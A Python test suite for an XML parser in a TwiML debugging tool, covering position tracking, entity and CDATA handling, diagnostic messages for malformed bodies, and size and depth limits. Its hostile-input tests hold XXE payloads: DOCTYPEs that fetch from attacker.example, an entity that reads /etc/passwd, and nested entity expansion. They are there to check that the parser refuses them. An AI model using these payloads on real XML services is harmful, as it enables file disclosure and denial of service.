import pytest
from hypothesis import given
from hypothesis import strategies as st

from pivot_debug.findings import line_and_column
from pivot_debug.twiml.xml_faults import recognise
from pivot_debug.twiml.xml_places import Place
from pivot_debug.twiml.xml_positions import (
    MAX_DEPTH,
    MAX_SIZE,
    Aside,
    Document,
    Element,
    Text,
    XmlFault,
    parse_xml,
)

BOM = "\ufeff"
TAGS = ["<Response>", "</Response>", "<Say>", "</Say>", "<a b='1'", ' c="&amp;"', "/>", ">", "<", "&", "&amp;", "é😀"]
MARKUP = ["<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'", "?>", "<!DOCTYPE x", "[", "\0", "\ud800", BOM, "\n"]
SHREDS = st.lists(st.sampled_from([*TAGS, *MARKUP]), max_size=15).map("".join)
NAMES = st.sampled_from(["Say", "Dial", "a", "x:y", "É"])
VALUES = st.text(alphabet="ab é😀\n&<\"'>", max_size=6)


def parsed(body: str) -> Document:
    document = parse_xml(body)
    assert isinstance(document, Document), document
    return document


def fault(body: str) -> XmlFault:
    found = parse_xml(body)
    assert isinstance(found, XmlFault), found
    return found


def place(body: str, of: str) -> Place:
    return Place(*line_and_column(body, body.index(of)))


# ---------------------------------------------------------------- places


def test_every_part_of_a_document_knows_its_place() -> None:
    body = "<Response>\n  <Say voice=\"man\"\n       loop = '2'>Hello</Say>\n  <!-- bye --><Hangup/>\n</Response>\n"

    root = parsed(body).root

    say, hangup = root.elements
    assert (root.name, root.place) == ("Response", Place(1, 1))
    assert (say.place, say.texts[0].place, hangup.place) == (Place(2, 3), Place(3, 19), Place(4, 15))
    assert [(each.name, each.value, each.place) for each in say.attributes] == [
        ("voice", "man", Place(2, 8)),
        ("loop", "2", Place(3, 8)),
    ]
    assert [child.place for child in root.children if isinstance(child, Aside)] == [Place(4, 3)]


@pytest.mark.parametrize("before", ["", BOM, "\n\n", "\r\n", "<!-- é😀 -->\n<?pi x?>", "<?xml version='1.0'?>\r\n\t"])
@pytest.mark.parametrize("inside", ["é", "😀😀", "a\r\nb", "&amp;é", "<![CDATA[é<x b='1'/>]]>\n", "<y é='ü>'/>"])
def test_columns_count_characters_of_the_body_as_sent(before: str, inside: str) -> None:
    body = f"{before}<Response>{inside}<target a='1' goal='é'>é text</target></Response>"

    target = parsed(body).root.elements[-1]

    assert target.place == place(body, "<target")
    assert target.attributes[1].place == place(body, "goal")
    assert target.texts[0].place == place(body, "é text")


@given(st.recursive(st.just(""), lambda inner: st.builds(lambda *parts: parts, NAMES, VALUES, inner, VALUES, inner)))
def test_a_tree_written_as_xml_comes_back_with_its_places(tree: object) -> None:
    body = f"<r>{written(tree)}</r>"

    for element in every(parsed(body).root):
        line, column = element.place
        assert body.split("\n")[line - 1][column - 1 :].startswith(f"<{element.name}")
        for attribute in element.attributes:
            line, column = attribute.place
            assert body.split("\n")[line - 1][column - 1 :].startswith(f'{attribute.name}="')


def written(tree: object) -> str:
    if not isinstance(tree, tuple):
        return ""
    name, value, first, text, second = tree
    return f'<{name} v="{escaped(value)}">{written(first)}{escaped(text)}{written(second)}</{name}>'


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def every(element: Element) -> list[Element]:
    return [element, *(deeper for child in element.elements for deeper in every(child))]


# ---------------------------------------------------------------- content


def test_references_become_the_characters_they_stand_for() -> None:
    say = parsed('<Response><Say a="&lt;&#233;&#xe9;">1 &amp; 2 &gt; &quot;</Say></Response>').root.elements[0]

    assert say.attributes[0].value == "<éé"
    assert say.texts[0].value == '1 & 2 > "'


def test_line_breaks_are_one_character_whatever_the_system() -> None:
    assert parsed("<a>1\r\n2\r3\n4</a>").root.texts[0].value == "1\n2\n3\n4"


@pytest.mark.parametrize(
    ("content", "texts"),
    [
        ("<![CDATA[a&b]]>", [("a&b", True)]),
        ("<![CDATA[]]>", [("", True)]),
        ("\n<![CDATA[a]]>\n", [("\na\n", False)]),
        ("<![CDATA[a]]>\n", [("a\n", True)]),
        ("<x/>b<![CDATA[a]]>c", [("b", False), ("a", True), ("c", False)]),
        ("b<!-- c --><![CDATA[a]]>", [("b", False), ("a", True)]),
    ],
)
def test_cdata_joins_the_text_before_it_as_in_the_parser_of_kazoo(content: str, texts: list[tuple[str, bool]]) -> None:
    assert [(text.value, text.cdata) for text in parsed(f"<a>{content}</a>").root.texts] == texts


def test_comments_and_instructions_in_a_row_are_one_content_and_no_text() -> None:
    root = parsed("<?one x?><!-- two --><a><?three?><!-- four --> <!-- five --></a><!-- six -->").root

    assert [type(child) for child in root.children] == [Aside, Text, Aside]
    assert [child.place.column for child in root.children] == [25, 47, 48]


@pytest.mark.parametrize("line", ["\n", "é\n", "é", "<!-- é -->", "&amp;é", "<![CDATA[é]]>\n"])
def test_places_stay_right_however_long_the_text_before(line: str) -> None:
    for lines in (170, 171, 1000, 1024):
        body = f"<a>{line * lines}<b c='é' d=''>é</b>text</a>"

        b = parsed(body).root.elements[-1]

        assert (b.place, b.attributes[1].place) == (place(body, "<b"), place(body, "d=''"))
        assert parsed(body).root.texts[-1].place == place(body, "text")


def test_namespaces_are_part_of_the_names() -> None:
    root = parsed('<t:Response xmlns:t="urn:t"><t:Say t:a="1"/></t:Response>').root

    assert (root.name, root.elements[0].name) == ("t:Response", "t:Say")
    assert [each.name for each in (*root.attributes, *root.elements[0].attributes)] == ["xmlns:t", "t:a"]


@pytest.mark.parametrize(
    "rest", ["junk", "<b/>", "&", "</a>", "\x01", "é", "<!-- c -->\njunk", "<![CDATA[x]]>", "\0", "<"]
)
@pytest.mark.parametrize("root", ["<a/>", "<a></a>", "<a b='/>'>x</a>", "<a><b/></a>", "<a b='>'/>"])
def test_what_follows_the_root_is_noted_and_left_alone(root: str, rest: str) -> None:
    document = parsed(f"{root}\n{rest}")

    assert document.root.name == "a"
    assert document.rest == (Place(3, 1) if rest.startswith("<!--") else Place(2, 1))


@pytest.mark.parametrize("rest", ["<?xml version='1.0'?><a/>", "<!-- a -- b -->", "<!-- unclosed", "<? x?>"])
def test_malformed_markup_after_the_root_is_a_fault_for_kazoo_reads_on_there(rest: str) -> None:
    assert parse_xml("<a/>\n  <!-- well formed --> <?pi?>\n") == parsed("<a/>")
    fault(f"<a/>{rest}")


# ---------------------------------------------------------------- faults


@pytest.mark.parametrize(
    ("body", "cause", "at"),
    [
        ("", "body is empty", (1, 1)),
        (" \n", "body is empty", (2, 1)),
        ("<a>\n  Tom & Jerry</a>", "Write &amp;", (2, 7)),
        ("<a>http://x/?a=1&b=2</a>", "Write &amp;", (1, 17)),
        ("<a b='http://x/?a=1&amp;b=2&c=3'/>", "Write &amp;", (1, 28)),
        ("<a b='&amp;&c;'/>", "Write &amp;", (1, 12)),
        ("<a>&nbsp;</a>", "Write &amp;", (1, 4)),
        ("<a>é && b</a>", "Write &amp;", (1, 6)),
        ("\n<?xml version='1.0'?><a/>", "before <?xml", (2, 1)),
        ("\n" * 600 + "<?xml version='1.0'?><a/>", "before <?xml", (601, 1)),
        ("text<?xml version='1.0'?><a/>", "Text stands before", (1, 5)),
        (f"{BOM}{BOM}<a/>", "byte order mark", (1, 2)),
        (f"<?xml version='1.0'?>{BOM}<a/>", "not well-formed", (1, 22)),
        ("<a><b>x</a>", "<b> of line 1 is still open", (1, 10)),
        ("<a>\n<b>\nx</B></a>", "<b> of line 2 is still open", (3, 4)),
        ("<a>\n<b>x", "<b> of line 2 is open", (2, 5)),
        ("<a><b", "cut off", (1, 4)),
        ("<a><!-- x", "cut off", (1, 4)),
        ("<a><![CDATA[x", "cut off", (1, 14)),
        ("<!-- only -->", "not well-formed", (1, 14)),
        ("<html>\n<body><br></body></html>", "HTML page", (2, 13)),
        ("<!DOCTYPE HTML>\n<html></html>", "HTML page", (1, 1)),
        ("PHP Warning:  Undefined x\n<a/>", "message of PHP", (1, 1)),
        ("<br />\n<b>Notice</b>:  x in <b>y</b><br />\n<?xml version='1.0'?><a/>", "", (3, 1)),
        ('{"module": "tts"}', "looks like JSON", (1, 1)),
        ("<?xml version=1.0?><a/>", "declaration is malformed", (1, 15)),
        ("<a b=1/>", "quotes", (1, 6)),
        ("<a b='1' b='2'/>", "twice", (1, 10)),
        ("<a>1 < 2</a>", "&lt;", (1, 7)),
        ("<a b='<'/>", "&lt;", (1, 7)),
        ("<a>\x01</a>", "control character", (1, 4)),
        ("<a>\0</a>", "control character", (1, 4)),
        ("<a>\ud800</a>", "control character", (1, 4)),
        ("<a>&#0;</a>", "not well-formed", (1, 4)),
        ("<a>]]></a>", "not well-formed", (1, 6)),
        ("<?xml version='1.0' encoding='utf8'?><a/>", 'encoding="utf8"', (1, 21)),
        ("<?xml version='1.0' encoding='windows-1252'?><a/>", 'encoding="windows-1252"', (1, 21)),
        ("<?xml version='1.0' encoding='UTF-16'?><a/>", 'encoding="UTF-16"', (1, 21)),
    ],
)
def test_a_syntax_error_names_its_usual_cause_and_its_place(body: str, cause: str, at: tuple[int, int]) -> None:
    found = parse_xml(body)

    if cause:
        assert isinstance(found, XmlFault)
        assert (cause in found.message, found.place, found.ours) == (True, at, False), found
        assert found.expected
        assert found.got


def test_a_mismatch_tells_which_tag_was_expected() -> None:
    found = fault("<a><Say>x</say></a>")

    assert (found.expected, found.got) == ("</Say>", "</say>")


def test_a_body_that_is_cut_off_tells_which_tag_was_expected() -> None:
    found = fault("<Response><Say>x</Say>\n")

    assert (found.expected, found.got) == ("</Response>", "the end of the body")


def test_a_php_message_is_recognised_even_where_it_parses_as_xml() -> None:
    body = "<br />\n<b>Warning</b>:  Undefined variable <b>x</b>"

    assert parsed(body).root.name == "br"
    assert "PHP" in str(recognise(body))


@pytest.mark.parametrize("encoding", ["utf-8", "UTF-8", "ISO-8859-1", "us-ascii"])
def test_declared_encodings_that_kazoo_knows_are_noted(encoding: str) -> None:
    assert parsed(f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?><a/>').encoding == encoding.lower()


def test_after_a_byte_order_mark_the_declared_encoding_does_not_matter() -> None:
    assert parsed(f'{BOM}<?xml version="1.0" encoding="utf8"?><a>é</a>').root.texts[0].value == "é"


# ---------------------------------------------------------------- hostile input


@pytest.mark.parametrize(
    "declared",
    [
        "<!DOCTYPE a>",
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
        '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]>',
        '<!DOCTYPE a [<!ENTITY d SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
        '<!DOCTYPE a [<!ATTLIST a b CDATA "default">]>',
    ],
)
def test_a_doctype_is_refused_before_it_declares_or_fetches_anything(declared: str) -> None:
    found = fault(f"<?xml version='1.0'?>\n{declared}<a>&d;</a>")

    assert (found.ours, found.place, found.got) == (True, Place(2, 1), "<!DOCTYPE")


def test_an_undeclared_entity_is_not_expanded() -> None:
    assert "&amp;" in fault("<a>&d;</a>").message


def test_depth_is_capped() -> None:
    parsed("<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH)

    found = fault("<a>" * (MAX_DEPTH + 1) + "</a>" * (MAX_DEPTH + 1))

    assert (found.ours, found.place) == (True, Place(1, 3 * MAX_DEPTH + 1))


def test_endless_depth_ends_at_the_cap() -> None:
    assert fault("<a>" * 1_000_000).place == Place(1, 3 * MAX_DEPTH + 1)


def test_elements_and_attributes_are_capped() -> None:
    parsed(f"<a>{'<b/>' * (MAX_SIZE - 1)}</a>")

    assert fault(f"<a>{'<b/>' * MAX_SIZE}</a>").ours
    assert fault(f"<a {' '.join(f'a{number}=' for number in range(MAX_SIZE))}/>".replace("=", "='1'")).ours


def test_a_text_full_of_nuls_is_not_taken_for_utf_16() -> None:
    fault("<a/>".encode("utf-16-le").decode("latin-1"))
    fault("\0<\0a\0/\0>")


@given(st.text() | SHREDS)
def test_no_text_raises(body: str) -> None:
    found = parse_xml(body)

    where = found.place if isinstance(found, XmlFault) else found.root.place
    assert 1 <= where.line <= body.count("\n") + 1
    assert 1 <= where.column <= len(body) + 1


@given(st.text() | SHREDS)
def test_text_in_an_element_is_a_text_or_a_fault(body: str) -> None:
    found = parse_xml(f"<a>{body}</a>")

    assert isinstance(found, XmlFault) or all(
        isinstance(child, Element | Text | Aside) for child in found.root.children
    )
